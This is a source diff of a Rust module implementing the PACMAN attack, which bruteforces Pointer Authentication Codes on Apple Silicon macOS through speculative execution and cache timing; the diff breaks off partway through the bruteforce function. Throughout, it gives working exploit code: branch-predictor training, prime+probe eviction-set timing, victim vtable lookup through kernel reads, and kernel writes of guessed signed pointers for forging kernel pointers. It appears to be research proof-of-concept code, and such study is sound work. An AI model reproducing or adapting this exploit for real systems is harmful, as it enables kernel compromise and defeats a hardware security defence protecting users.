@@ -1,10 +1,36 @@
 /*!
  * The PACMAN attack.
  */
-use crate::*;
-use crate::pac::*;
-
+use crate::error::PacmanError;
+use crate::batch::Batch;
+use crate::evset;
+use crate::guard::{KernelAllocation, KernelRestore};
+use crate::pac::{self, *};
+use crate::pacmankit;
+use crate::primitives::*;
+use crate::profile::{self, OffsetProfile};
+use crate::results::{self, ExperimentRecord, ResultsSink};
+use crate::timer;
+use crate::attacks::decision::*;
+use crate::trace::*;
+use crate::kernelcache::symbols::SymbolicAddress;
+use serde::{Serialize, Deserialize};
+
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+use {
+    crate::cache,
+    crate::libdarwin::crandom,
+    crate::libdarwin::mach::{self, KERN_SUCCESS, VM_FLAGS_ANYWHERE},
+    crate::qos::{set_core, CoreKind},
+    crate::retpoline,
+    core::arch::asm,
+    core::ptr::{read_volatile, write_volatile},
+    std::thread,
+};
+
+/// How many addresses to prime for the data gadget?
 pub const DATA_EVSET_SIZE : usize = 12;
+/// Probe latency above which a data access counts as a miss
 pub const DATA_MISS_LATENCY : u64 = 42; // 42 for MSR timers 110 for multithreaded
 /// How many times to repeat a given trial?
 pub const DATA_NUM_ITERS : usize = 8;
@@ -18,7 +44,9 @@ pub const DATA_NUM_FINAL_ITERS : usize = 2048;
 /// How far above the first run's average does a run have to be to get marked "significant" for data
 pub const DATA_HOW_FAR_ABOVE_AVERAGE : f64 = 4f64;
 
+/// How many addresses to prime for the instruction gadget?
 pub const INST_EVSET_SIZE : usize = 12;
+/// Probe latency above which an instruction fetch counts as a miss
 pub const INST_MISS_LATENCY : u64 = 60; // 70 for MSR timers (blr), 65/60 for MSR timers (blraa), 205 for multithreaded
 
 /// How many times to repeat a given trial?
@@ -30,43 +58,180 @@ pub const INST_NUM_TRIALS : usize = 12;
 /// this can be huge since there aren't going to be a ton of them ideally.
 pub const INST_NUM_FINAL_ITERS : usize = 2048;
 
+/// How many addresses to use for evicting LIMIT?
 pub const LIMIT_EVSET_SIZE : usize = 512;
 
-/// How many bytes into the kernel mach-o does the target `ret` live?
-// A gadget from IOSCSIArchitectureModelFamily.kext: 0x26a497c
-pub const INST_TARGET_OFFSET : u64 = 0x26a497c; // 0x15739C; // 0x15751C; // 0x154088
-
 /// How far above the first run's average does a run have to be to get marked "significant" for inst
 pub const INST_HOW_FAR_ABOVE_AVERAGE : f64 = 4f64;
 
+/**
+ * Runtime parameters for attacking one PACMAN gadget.
+ */
+#[derive(Copy, Clone, Debug, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct GadgetParams {
+    /// How large of an eviction set should we use?
+    pub evset_size: usize,
+
+    /// What timer reading constitutes a cache miss?
+    pub miss_latency: u64,
+
+    /// How many times to repeat a given trial?
+    pub num_iters: usize,
+
+    /// How many trials to run when differentiating? (Each trial == a correct or incorrect PAC)
+    pub num_trials: usize,
+
+    /// How many times do we iterate when inspecting the final set?
+    pub num_final_iters: usize,
+
+    /// How far above the first run's average does a run have to be to get marked "significant"?
+    pub how_far_above_average: f64,
+}
+
+/// Parameters for the data gadget
+pub const DATA_PARAMS : GadgetParams = GadgetParams {
+    evset_size: DATA_EVSET_SIZE,
+    miss_latency: DATA_MISS_LATENCY,
+    num_iters: DATA_NUM_ITERS,
+    num_trials: DATA_NUM_TRIALS,
+    num_final_iters: DATA_NUM_FINAL_ITERS,
+    how_far_above_average: DATA_HOW_FAR_ABOVE_AVERAGE,
+};
+
+/// Parameters for the instruction gadget
+pub const INST_PARAMS : GadgetParams = GadgetParams {
+    evset_size: INST_EVSET_SIZE,
+    miss_latency: INST_MISS_LATENCY,
+    num_iters: INST_NUM_ITERS,
+    num_trials: INST_NUM_TRIALS,
+    num_final_iters: INST_NUM_FINAL_ITERS,
+    how_far_above_average: INST_HOW_FAR_ABOVE_AVERAGE,
+};
+
+/// Parameters for `pacman_real` (which only differentiates, so `num_final_iters` is unused)
+pub const REAL_PARAMS : GadgetParams = GadgetParams {
+    evset_size: 12,
+    miss_latency: 62,
+    num_iters: 8,
+    num_trials: 12,
+    num_final_iters: DATA_NUM_FINAL_ITERS,
+    how_far_above_average: DATA_HOW_FAR_ABOVE_AVERAGE,
+};
+
+impl GadgetParams {
+    /**
+     * Check these parameters make sense.
+     * Returns a description of the first problem found.
+     */
+    pub fn validate(&self) -> Result<(), String> {
+        if self.evset_size == 0 || self.evset_size > evset::EVSET_SIZE_MAX {
+            return Err(format!("evset_size must be between 1 and {} (got {})", evset::EVSET_SIZE_MAX, self.evset_size));
+        }
+        if self.num_iters == 0 {
+            return Err("num_iters must be at least 1".to_string());
+        }
+        if self.num_trials < 2 {
+            // Differentiating always tries at least one correct and one incorrect PAC
+            return Err(format!("num_trials must be at least 2 (got {})", self.num_trials));
+        }
+        if self.num_final_iters == 0 {
+            return Err("num_final_iters must be at least 1".to_string());
+        }
+        if self.how_far_above_average <= 0.0 || !self.how_far_above_average.is_finite() {
+            return Err(format!("how_far_above_average must be a positive number (got {})", self.how_far_above_average));
+        }
+        return Ok(());
+    }
+}
+
+/**
+ * Everything needed to run the PACMAN experiments.
+ */
+#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PacmanConfig {
+    /// The data gadget (forging the vtable pointer)
+    pub data: GadgetParams,
+
+    /// The instruction gadget (forging the vtable entry)
+    pub inst: GadgetParams,
+
+    /// The `memorystatus_available_memory` gadget (`pacman_real`)
+    pub real: GadgetParams,
+
+    /// How many addresses to use for evicting LIMIT?
+    pub limit_evset_size: usize,
+
+    /// Where does the target `ret` live? (relative to the kernel base, a kext or a symbol; overrides the offset
+    /// profile's `profile::INST_TARGET` gadget)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub inst_target: Option<SymbolicAddress>,
+}
+
+impl Default for PacmanConfig {
+    fn default() -> Self {
+        return Self {
+            data: DATA_PARAMS,
+            inst: INST_PARAMS,
+            real: REAL_PARAMS,
+            limit_evset_size: LIMIT_EVSET_SIZE,
+            inst_target: None,
+        };
+    }
+}
+
+impl PacmanConfig {
+    /**
+     * Check this config makes sense.
+     * Returns a description of the first problem found.
+     */
+    pub fn validate(&self) -> Result<(), String> {
+        self.data.validate().map_err(|err| format!("pacman.data: {}", err))?;
+        self.inst.validate().map_err(|err| format!("pacman.inst: {}", err))?;
+        self.real.validate().map_err(|err| format!("pacman.real: {}", err))?;
+        if self.limit_evset_size == 0 || self.limit_evset_size > evset::EVSET_SIZE_MAX {
+            return Err(format!("pacman.limit_evset_size must be between 1 and {} (got {})", evset::EVSET_SIZE_MAX, self.limit_evset_size));
+        }
+        return Ok(());
+    }
+}
+
+/// A pointer we can write guesses for directly (see `pacman_direct`)
 #[derive(Copy,Clone,Debug,PartialEq)]
-struct DirectTarget{
-    // The location of the pointer to forge a PAC for
-    holder: u64,
+pub struct DirectTarget{
+    /// The location of the pointer to forge a PAC for
+    pub holder: u64,
 
-    // A known correct value for holder- should point to something other than guess_ptr
-    train_ptr: u64,
+    /// A known correct value for holder- should point to something other than guess_ptr
+    pub train_ptr: u64,
 
-    // Current guess of the correct value for holder
-    guess_ptr: u64,
+    /// Current guess of the correct value for holder
+    pub guess_ptr: u64,
 }
 
+/// A pointer only reachable through another pointer we have to swap (see `pacman_indirect`)
 #[derive(Copy,Clone,Debug,PartialEq)]
-struct IndirectTarget{
-    outer_holder: u64,
-    inner_holder: u64,
+pub struct IndirectTarget{
+    /// The location of the pointer we can swap
+    pub outer_holder: u64,
 
-    // Both of these are known correctly signed pointers
-    // train_ptr causes execution to ignore inner_holder, guess_ptr causes execution to evaluate inner_holder
-    outer_train_ptr: u64,
-    outer_guess_ptr: u64,
+    /// The location of the pointer to forge a PAC for
+    pub inner_holder: u64,
 
-    // Current guess of the correct value for inner_holder
-    inner_guess_ptr: u64,
+    /// A known correctly signed pointer for outer_holder that causes execution to ignore inner_holder
+    pub outer_train_ptr: u64,
+
+    /// A known correctly signed pointer for outer_holder that causes execution to evaluate inner_holder
+    pub outer_guess_ptr: u64,
+
+    /// Current guess of the correct value for inner_holder
+    pub inner_guess_ptr: u64,
 }
 
 /// Direct or indirect? Used for abstracting direct/ indirect attacks into one generic method flavor.
-enum PacmanAttackTarget {
+#[derive(Copy,Clone,Debug,PartialEq)]
+pub enum PacmanAttackTarget {
     Direct(DirectTarget),
     Indirect(IndirectTarget),
 }
@@ -81,24 +246,85 @@ enum PacmanAttackTarget {
  * # Return Value
  * Returns the correct 64 bit salt for this given context.
  */
-pub unsafe fn get_salt(holder_addr: u64, salt_const: u64) -> u64 {
+pub fn get_salt(holder_addr: u64, salt_const: u64) -> u64 {
     // Upper 16 bits are the salt_const
     // Need to make sure that bit 47 is set correctly too
     let addr_unmasked = (holder_addr | PAC_BITMASK) & (!0xFFFF000000000000u64);
-    return (addr_unmasked | (salt_const << 48u64));
+    return addr_unmasked | (salt_const << 48u64);
 }
 
 /**
  * Helper method to do the address computation to find the victim object in memory,
- * given a IOService that owns an IOUserClient we want to corrupt.
+ * given a IOService that owns an IOUserClient we want to corrupt (where its helper is comes from `profile`).
+ */
+pub unsafe fn find_victim_objects<K: KernelMemory + KernelLeaks>(handle: &K, profile: &OffsetProfile) -> Result<(u64, u64, u64, u64), PacmanError> {
+    let victim_user_client = handle.get_handle_loc()?;
+    let victim_object = victim_user_client + profile.field(profile::PACMANKIT_HELPER)?;
+    let victim_vtable = handle.kernel_read(victim_object)?;
+    let victim_vtable_entry = handle.kernel_read(victim_vtable)?;
+
+    return Ok((victim_user_client, victim_object, victim_vtable, victim_vtable_entry));
+}
+
+/// How many times `pacman_try_one` uses the known good pointer to train the branch predictor
+pub const TRAINING_CALLS : u64 = 12;
+
+/**
+ * Steps 1 and 2 of `pacman_try_one`: write the known good pointer into the holder, use it non-speculatively
+ * `TRAINING_CALLS` times to train the branch predictor, and then write the guess.
+ *
+ * Any `Fn()` does this (it is called to use the pointer, and the writes go through `handle`), as does a
+ * `BatchedTraining` (which does the whole thing in one batch).
+ */
+pub trait Training {
+    unsafe fn train<K: KernelMemory>(&self, handle: &K, holder: u64, known_good: u64, guess_value: u64) -> Result<(), PacmanError>;
+}
+
+impl<F: Fn()> Training for F {
+    unsafe fn train<K: KernelMemory>(&self, handle: &K, holder: u64, known_good: u64, guess_value: u64) -> Result<(), PacmanError> {
+        pacmankit::retry(|| handle.kernel_write(holder | PAC_BITMASK, known_good))?;
+        for _i in 0..TRAINING_CALLS {
+            self();
+        }
+        pacmankit::retry(|| handle.kernel_write(holder | PAC_BITMASK, guess_value))?;
+
+        return Ok(());
+    }
+}
+
+/**
+ * Training as one batch on `victim` (a round-trip per guess instead of `TRAINING_CALLS + 2`).
+ *
+ * `training` uses the pointer in the holder non-speculatively once. Both writes go through `victim` too.
  */
-pub unsafe fn find_victim_objects(handle: &PacmanKitConnection) -> (u64, u64, u64, u64) {
-    let victim_user_client = handle.get_handle_loc().unwrap();
-    let victim_object = victim_user_client + pacmankit::PACMANKIT_TO_HELPER;
-    let victim_vtable = handle.kernel_read(victim_object).unwrap();
-    let victim_vtable_entry = handle.kernel_read(victim_vtable).unwrap();
+pub struct BatchedTraining<'a, V: KernelBatch> {
+    pub victim: &'a V,
+    pub training: Batch,
+}
+
+impl<'a, V: KernelBatch> BatchedTraining<'a, V> {
+    /// Train with PacmanKitService's externalMethod on `victim` (like the `try_nonspeculative` closures do)
+    pub fn service_routine(victim: &'a V) -> Self {
+        let mut training = Batch::new();
+        training.call_service_routine([0; 6], 1);
+        return BatchedTraining { victim, training };
+    }
+}
+
+impl<V: KernelBatch> Training for &BatchedTraining<'_, V> {
+    unsafe fn train<K: KernelMemory>(&self, _handle: &K, holder: u64, known_good: u64, guess_value: u64) -> Result<(), PacmanError> {
+        let mut batch = Batch::new();
+        batch.write(holder | PAC_BITMASK, known_good);
+        for _i in 0..TRAINING_CALLS {
+            batch.extend(&self.training);
+        }
+        batch.write(holder | PAC_BITMASK, guess_value);
+
+        // Safe to repeat from the start
+        pacmankit::retry(|| self.victim.run_batch(&batch))?;
 
-    return (victim_user_client, victim_object, victim_vtable, victim_vtable_entry);
+        return Ok(());
+    }
 }
 
 /**
@@ -107,29 +333,32 @@ Run the PACMAN attack on a given pointer and return the access latencies for ana
 This can be used on either a data pointer or instruction pointer.
 
 # Arguments
-* `handle`: A PacmanKitConnection handle (only used for kernel write).
+* `handle`: A PacmanKit connection (or anything else with a kernel write, only used for kernel write).
 * `holder`: The address holding the pointer to forge (will be written into).
 * `known_good`: A known good pointer that can be safely used non-speculatively (has correct PAC).
 * `guess_value`: The pointer with a guessed PAC we are checking.
 * `time_use_fn`: The function to use for timing a pointer's usage.
 * `try_speculative`: A closure to trigger a speculative use of the pointer in `holder`.
 * `try_nonspeculative`: A closure to try using (for whatever definition of `using` applies
-                           in a given use case)the pointer in `holder` non-speculatively.
+  in a given use case)the pointer in `holder` non-speculatively, or a `BatchedTraining` (see `Training`).
 * `forge_evset`: An eviction set for the `guess_value` pointer being forged.
 * `forge_evset_indexes`: An array of indexes to use to index `forge_evset`. Will be randomized!
 * `limit_evset`: An eviction set for the `guess_value` pointer being forged.
 * `limit_evset_indexes`: An array of indexes to use to index `limit_evset`. Will be randomized!
+* `times`: Where to put the measured latencies (using `time_use_fn`) of the `prime+probe`'d eviction set.
+  Its length is the number of eviction set entries to use.
 # Generics
+* `K`: Whatever provides the kernel write (see `primitives`).
 * `TrySpec`: A closure to try a value speculatively. Can just use `_`.
-* `TryNonSpec`: A closure to try a value non-speculatively. Can just use `_`.
-* `const` `EVSET_SIZE`: The size of the eviction set.
+* `TryNonSpec`: A closure to try a value non-speculatively (or anything else that trains). Can just use `_`.
 
  # Return Value
- Returns the measured latencies (using `time_use_fn`) of the `prime+probe`'d eviction set.
+ Returns the total latency of evicting LIMIT (recorded in traces, see `trace.rs`), or the kernel write that failed.
 */
 #[inline(always)]
-unsafe fn pacman_try_one<TrySpec, TryNonSpec, const EVSET_SIZE: usize>(
-    handle: &PacmanKitConnection,
+#[allow(clippy::too_many_arguments)]
+pub unsafe fn pacman_try_one<K, TrySpec, TryNonSpec>(
+    handle: &K,
 
     // Address of the pointer to forge (where the pointer will be saved in memory):
     holder: u64,
@@ -146,33 +375,36 @@ unsafe fn pacman_try_one<TrySpec, TryNonSpec, const EVSET_SIZE: usize>(
     try_nonspeculative: TryNonSpec,
 
     // Eviction sets:
-    forge_evset: &Vec<u64>,
-    forge_evset_indexes: &mut Vec<usize>,
-    limit_evset: &Vec<u64>,
-    limit_evset_indexes: &mut Vec<usize>,
-) -> [u64; EVSET_SIZE] where
-    TrySpec: Fn(), TryNonSpec: Fn() {
+    forge_evset: &[u64],
+    forge_evset_indexes: &mut [usize],
+    limit_evset: &[u64],
+    limit_evset_indexes: &mut [usize],
+
+    // Probe latencies (out):
+    times: &mut [u64],
+) -> Result<u64, PacmanError> where
+    K: KernelMemory, TrySpec: Fn(), TryNonSpec: Training {
 
     // 0. Throw off the prefetcher if you want (I found this was unnecessary)
     // forge_evset_indexes.shuffle(&mut thread_rng());
     // limit_evset_indexes.shuffle(&mut thread_rng());
 
-    // 1. Train branch predictor on known good pointer
-    handle.kernel_write(holder | PAC_BITMASK, known_good);
-    for i in 0..12 {
-        try_nonspeculative();
-    }
+    // Put known_good back even if we don't make it to 7
+    let mut holders = KernelRestore::new(handle);
+    holders.save_value(holder, known_good);
 
+    // 1. Train branch predictor on known good pointer
     // 2. Write guess
-    handle.kernel_write(holder | PAC_BITMASK, guess_value);
+    try_nonspeculative.train(handle, holder, known_good, guess_value)?;
 
     // 3. Evict LIMIT- this is ALWAYS a data access!
+    let mut limit_evict_cycles : u64 = 0;
     for i in 0..limit_evset_indexes.len() {
-        timer::time_access(limit_evset[limit_evset_indexes[i]]);
+        limit_evict_cycles = limit_evict_cycles.wrapping_add(timer::time_access(limit_evset[limit_evset_indexes[i]]));
     }
 
     // 4. Prime the cache
-    for i in 0..EVSET_SIZE {
+    for i in 0..times.len() {
         time_use_fn(forge_evset[forge_evset_indexes[i]]);
     }
 
@@ -180,15 +412,14 @@ unsafe fn pacman_try_one<TrySpec, TryNonSpec, const EVSET_SIZE: usize>(
     try_speculative();
 
     // 6. Probe (go backwards with .rev() if you want to prevent self-eviction!)
-    let mut times = [0; EVSET_SIZE];
-    for i in (0..EVSET_SIZE) {
+    for i in 0..times.len() {
         times[i] = time_use_fn(forge_evset[forge_evset_indexes[i]]);
     }
 
     // 7. Cleanup nicely
-    handle.kernel_write(holder | PAC_BITMASK, known_good);
+    holders.restore()?;
 
-    return times;
+    return Ok(limit_evict_cycles);
 }
 
 /**
@@ -201,14 +432,13 @@ unsafe fn pacman_try_one<TrySpec, TryNonSpec, const EVSET_SIZE: usize>(
  * This method is intended to be used as a helper routine for bruteforcing/ differentiating on direct gadgets (data or inst).
  */
 #[inline(always)]
-unsafe fn pacman_direct<
+#[allow(clippy::too_many_arguments)]
+pub unsafe fn pacman_direct<
+    K,
     TrySpec,
     TryNonSpec,
-    const NUM_ITERS: usize,
-    const EVSET_SIZE: usize,
-    const MISS_LATENCY: u64
 > (
-    handle: &PacmanKitConnection,
+    handle: &K,
     holder: u64,
 
     // Used to train the branch predictor (non-speculatively!)
@@ -217,51 +447,58 @@ unsafe fn pacman_direct<
     // Used speculatively as part of the PACMAN attack. Should point to different memory than `train_ptr`.
     guess_ptr : u64,
 
+    // How many times to try the pointer, and the eviction set size/ miss latency to do it with:
+    num_iters: usize,
+    params: &GadgetParams,
+
     // Generic functions to test the pointer:
     time_use_fn: unsafe fn(u64) -> u64,
     try_speculative: TrySpec,
     try_nonspeculative: TryNonSpec,
 
     // Eviction sets:
-    forge_evset: &Vec<u64>,
-    forge_evset_indexes: &mut Vec<usize>,
-    limit_evset: &Vec<u64>,
-    limit_evset_indexes: &mut Vec<usize>,
-) -> [u64; NUM_ITERS] where TrySpec: Fn(), TryNonSpec: Fn() {
-    let mut samples = [0; NUM_ITERS];
-
-    for iteration in 0..NUM_ITERS {
+    forge_evset: &[u64],
+    forge_evset_indexes: &mut [usize],
+    limit_evset: &[u64],
+    limit_evset_indexes: &mut [usize],
+
+    // Where to record every trial (if anywhere):
+    mut trace: Option<&mut TraceRecorder>,
+) -> Result<Vec<u64>, PacmanError> where K: KernelMemory, TrySpec: Fn(), TryNonSpec: Training + Copy {
+    let mut samples = vec![0; num_iters];
+    let mut times = vec![0; params.evset_size];
+
+    for sample in samples.iter_mut() {
         // Run a single test case
-        let mut times = pacman_try_one::<_, _, EVSET_SIZE>(
-            &handle,
+        let limit_evict_cycles = pacman_try_one(
+            handle,
             holder,
             train_ptr,
             guess_ptr,
             time_use_fn,
             &try_speculative,
-            &try_nonspeculative,
+            try_nonspeculative,
             forge_evset,
             forge_evset_indexes,
             limit_evset,
             limit_evset_indexes,
-        );
+            &mut times,
+        )?;
+
+        if let Some(trace) = trace.as_deref_mut() {
+            trace.record(results::current_time(), holder, guess_ptr, limit_evict_cycles, &times)?;
+        }
 
         // Record the number of misses
         // @TODO: Replace samples with an array of buckets for different miss counts
-        let mut misses = 0;
-        for i in 0..EVSET_SIZE {
-            if times[i] > MISS_LATENCY {
-                misses += 1;
-            }
-        }
-        samples[iteration] = misses;
+        *sample = count_misses(&times, params.miss_latency);
 
         // Sometimes it's helpful to print the actual latencies out:
         // times.sort();
         // println!("{:?}", times);
     }
 
-    return samples;
+    return Ok(samples);
 }
 
 /**
@@ -310,14 +547,13 @@ unsafe fn pacman_direct<
  * This method is intended to be used as a helper routine for bruteforcing/ differentiating on indirect gadgets (data or inst).
  */
 #[inline(always)]
-unsafe fn pacman_indirect<
+#[allow(clippy::too_many_arguments)]
+pub unsafe fn pacman_indirect<
+    K,
     TrySpec,
     TryNonSpec,
-    const NUM_ITERS: usize,
-    const EVSET_SIZE: usize,
-    const MISS_LATENCY: u64
 > (
-    handle: &PacmanKitConnection,
+    handle: &K,
 
     // The holders for our two pointers:
     outer_holder: u64,
@@ -329,56 +565,63 @@ unsafe fn pacman_indirect<
 
     inner_guess_ptr: u64,
 
+    // How many times to try the pointer, and the eviction set size/ miss latency to do it with:
+    num_iters: usize,
+    params: &GadgetParams,
+
     // Generic functions to test the pointer:
     time_use_fn: unsafe fn(u64) -> u64,
     try_speculative: TrySpec,
     try_nonspeculative: TryNonSpec,
 
     // Eviction sets:
-    forge_evset: &Vec<u64>,
-    forge_evset_indexes: &mut Vec<usize>,
-    limit_evset: &Vec<u64>,
-    limit_evset_indexes: &mut Vec<usize>,
-) -> [u64; NUM_ITERS] where TrySpec: Fn(), TryNonSpec: Fn() {
-    let mut samples = [0; NUM_ITERS];
-
-    for iteration in 0..NUM_ITERS {
+    forge_evset: &[u64],
+    forge_evset_indexes: &mut [usize],
+    limit_evset: &[u64],
+    limit_evset_indexes: &mut [usize],
+
+    // Where to record every trial (if anywhere):
+    mut trace: Option<&mut TraceRecorder>,
+) -> Result<Vec<u64>, PacmanError> where K: KernelMemory, TrySpec: Fn(), TryNonSpec: Training + Copy {
+    let mut samples = vec![0; num_iters];
+    let mut times = vec![0; params.evset_size];
+
+    for sample in samples.iter_mut() {
         // Write our guess into the inner holder
-        handle.kernel_write(inner_holder, inner_guess_ptr);
+        pacmankit::retry(|| handle.kernel_write(inner_holder, inner_guess_ptr))?;
 
         // Run a single test case, training with outer_holder set to outer_train_ptr
         // And then swapping to outer_guess_ptr when our test arrives (the caller should
         // ensure this causes inner_holder to be speculatively used).
-        let mut times = pacman_try_one::<_, _, EVSET_SIZE>(
-            &handle,
+        let limit_evict_cycles = pacman_try_one(
+            handle,
             outer_holder,
             outer_train_ptr,
             outer_guess_ptr,
             time_use_fn,
             &try_speculative,
-            &try_nonspeculative,
+            try_nonspeculative,
             forge_evset,
             forge_evset_indexes,
             limit_evset,
             limit_evset_indexes,
-        );
+            &mut times,
+        )?;
+
+        if let Some(trace) = trace.as_deref_mut() {
+            trace.record(results::current_time(), inner_holder, inner_guess_ptr, limit_evict_cycles, &times)?;
+        }
 
         // Record the number of misses
         // @TODO: Replace samples with an array of buckets for different miss counts
-        let mut misses = 0;
-        for i in 0..EVSET_SIZE {
-            if times[i] > MISS_LATENCY {
-                misses += 1;
-            }
-        }
-        samples[iteration] = misses;
+        *sample = count_misses(&times, params.miss_latency);
 
         // Sometimes it's helpful to print the actual latencies out:
         // times.sort();
         // println!("{:?}", times);
     }
 
-    return samples;
+    return Ok(samples);
 }
 
 /**
@@ -397,15 +640,14 @@ This function works for direct cases (where the pointer being swapped out is the
 (where the pointer being tested lives within a new memory region we don't have a train ptr for (aka a vtable situation)).
 
 # Generic Arguments
+* `K`: Whatever provides the kernel write (see `primitives`).
 * `TrySpec`: A closure to try a value speculatively. Can just use `_`.
 * `TryNonSpec`: A closure to try a value non-speculatively. Can just use `_`.
-* `NUM_TRIALS`: How many trials to run? Each trial is a grouping of `NUM_ITERS` calls to `pacman_try_one`. Each trial either uses a correct / incorrect pointer.
-* `NUM_ITERS`: How many times to test a given pointer (with `pacman_try_one`) before calling it quits? More == more accurate but takes longer.
-* `EVSET_SIZE`: How large of an eviction set should we use?
-* `MISS_LATENCY`: What timer reading constitutes a cache miss?
 
 # Arguments
-* `handle`: An open PacmanKitConnection handle (passed onto `pacman_try_one` for the arbitrary kernel write primitive).
+* `handle`: An open PacmanKit connection (or anything else with a kernel write, passed onto `pacman_try_one` for the arbitrary kernel write primitive).
+* `params`: The gadget parameters. `num_trials` is how many trials to run (each trial is a grouping of `num_iters`
+            calls to `pacman_try_one` using either a correct or incorrect pointer). More iterations == more accurate but takes longer.
 * `holder`: The address holding the pointer to forge (either `correct_ptr` or `incorrect_ptr` will be written here). `incorrect_ptr` will only be used speculatively.
 * `correct_ptr`: The correctly signed pointer to test.
 * `incorrect_ptr`: An incorrectly signed pointer to test.
@@ -417,16 +659,18 @@ This function works for direct cases (where the pointer being swapped out is the
 * `forge_evset_indexes`: An array of indexes to use to index `forge_evset`. Will be randomized!
 * `limit_evset`: An eviction set for the `guess_value` pointer being forged.
 * `limit_evset_indexes`: An array of indexes to use to index `limit_evset`. Will be randomized!
+* `experiment`: The experiment name to report the results under.
+* `sink`: Where to record the per-trial miss counts.
+* `trace`: Where to record every `pacman_try_one` invocation (if anywhere).
 */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 unsafe fn pacman_differentiate<
+    K,
     TrySpec,
     TryNonSpec,
-    const NUM_TRIALS: usize,
-    const NUM_ITERS: usize,
-    const EVSET_SIZE: usize,
-    const MISS_LATENCY: u64
 > (
-    handle: &PacmanKitConnection,
+    handle: &K,
+    params: &GadgetParams,
 
     // Either direct or indirect- this has all the info on our target object
     victim: PacmanAttackTarget,
@@ -441,18 +685,23 @@ unsafe fn pacman_differentiate<
     try_nonspeculative: TryNonSpec,
 
     // Eviction sets:
-    forge_evset: &Vec<u64>,
-    forge_evset_indexes: &mut Vec<usize>,
-    limit_evset: &Vec<u64>,
-    limit_evset_indexes: &mut Vec<usize>,
-) where TrySpec: Fn(), TryNonSpec: Fn() {
+    forge_evset: &[u64],
+    forge_evset_indexes: &mut [usize],
+    limit_evset: &[u64],
+    limit_evset_indexes: &mut [usize],
+
+    // Results:
+    experiment: &str,
+    sink: &mut dyn ResultsSink,
+    mut trace: Option<&mut TraceRecorder>,
+) -> Result<(), PacmanError> where K: KernelMemory, TrySpec: Fn(), TryNonSpec: Training + Copy {
     // results[x][y] contains the number of misses observed for a given trial
     // x is the trial number, and y is the subtrial number
     // For a given x, we always do either correct or incorrect PAC according to use_correct_pac
-    let mut results = [[0; NUM_ITERS]; NUM_TRIALS];
+    let mut results = vec![Vec::new(); params.num_trials];
 
-    let mut use_correct_pac = [false; NUM_TRIALS];
-    for i in 0..NUM_TRIALS {
+    let mut use_correct_pac = vec![false; params.num_trials];
+    for i in 0..params.num_trials {
         use_correct_pac[i] = crandom::rand() % 2 == 0;
     }
 
@@ -460,28 +709,35 @@ unsafe fn pacman_differentiate<
     use_correct_pac[0] = false;
     use_correct_pac[1] = true;
 
-    for trial in 0..NUM_TRIALS {
+    for trial in 0..params.num_trials {
         let value_to_use = if use_correct_pac[trial] {correct_ptr} else {incorrect_ptr};
 
+        if let Some(trace) = trace.as_deref_mut() {
+            trace.set_phase(TracePhase::Differentiate, if use_correct_pac[trial] {TraceLabel::Correct} else {TraceLabel::Incorrect});
+        }
+
         let samples = match victim {
             PacmanAttackTarget::Direct(target) =>
-                pacman_direct::<_, _, NUM_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_direct(
+                    handle,
                     target.holder,
                     target.train_ptr,
                     value_to_use,
+                    params.num_iters,
+                    params,
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
 
             PacmanAttackTarget::Indirect(target) =>
-                pacman_indirect::<_, _, NUM_ITERS, EVSET_SIZE, MISS_LATENCY>(
-                    &handle,
+                pacman_indirect(
+                    handle,
                     target.outer_holder,
                     target.inner_holder,
 
@@ -489,58 +745,58 @@ unsafe fn pacman_differentiate<
                     target.outer_guess_ptr,
 
                     value_to_use,
+                    params.num_iters,
+                    params,
 
                     time_use_fn,
                     &try_speculative,
-                    &try_nonspeculative,
+                    try_nonspeculative,
                     forge_evset,
                     forge_evset_indexes,
                     limit_evset,
-                    limit_evset_indexes
+                    limit_evset_indexes,
+                    trace.as_deref_mut()
                 ),
-        };
+        }?;
 
         results[trial] = samples;
     }
 
-    // Post-process and print out results for graphing/ testing
-    for i in 0..NUM_TRIALS {
-        if use_correct_pac[i] {
-            print!("[*] ");
-        }
-        else {
-            print!("[x] ");
-        }
-
-        results[i].sort();
-        let mut avg : f64 = 0.0;
-        let mut total : u64 = 0;
-        for j in 0..results[i].len() {
-            avg += results[i][j] as f64;
-            total += results[i][j]
-        }
-        avg /= results[i].len() as f64;
-        let median = results[i][results[i].len() / 2];
-        let max = results[i][results[i].len() - 2];
-        let min = results[i][2];
-        print!("{}, {}, {}, {}, {}\t", min, median, max, avg, total);
-        println!("{:?}", results[i]);
+    // Record results for graphing/ testing
+    for i in 0..params.num_trials {
+        sink.record(
+            &ExperimentRecord::new(experiment)
+                .param("trial", i)
+                .param("correct_pac", use_correct_pac[i])
+                .param_ptr("guess", if use_correct_pac[i] {correct_ptr} else {incorrect_ptr})
+                .param("evset_size", params.evset_size)
+                .param("miss_latency", params.miss_latency)
+                .samples(&results[i])
+        )?;
     }
+
+    return Ok(());
 }
 
-pub const HOW_FAR_ABOVE_AVERAGE : f64 = 4.0f64;
+/**
+Bruteforce the PAC of the victim's guess pointer.
+
+Every possible PAC is tried `params.num_iters` times, and the potential matches are inspected again
+`params.num_final_iters` times (see `BruteforceDecider` for how the answer is decided).
 
-unsafe fn pacman_bruteforce<
+See `pacman_differentiate` for the other arguments.
+
+# Return Value
+Returns the correctly signed pointer, or `None` if nothing stood out (or the kernel write that failed).
+*/
+#[allow(clippy::too_many_arguments)]
+pub unsafe fn pacman_bruteforce<
+    K,
     TrySpec,
     TryNonSpec,
-    const NUM_TRIALS: usize,
-    const NUM_ITERS: usize,
-    // Number of iterations to run on the potential matches to determine if they are good or not
-    const NUM_FINAL_ITERS: usize,
-    const EVSET_SIZE: usize,
-    const MISS_LATENCY: u64
 > (
-    handle: &PacmanKitConnection,
+    handle: &K,
+    params: &GadgetParams,
 
     // All the information we need to know about the object under test
     victim: PacmanAttackTarget,
@@ -551,14 +807,22 @@ unsafe fn pacman_bruteforce<
     try_nonspeculative: TryNonSpec,
 
     // Eviction sets:
-    forge_evset: &Vec<u64>,
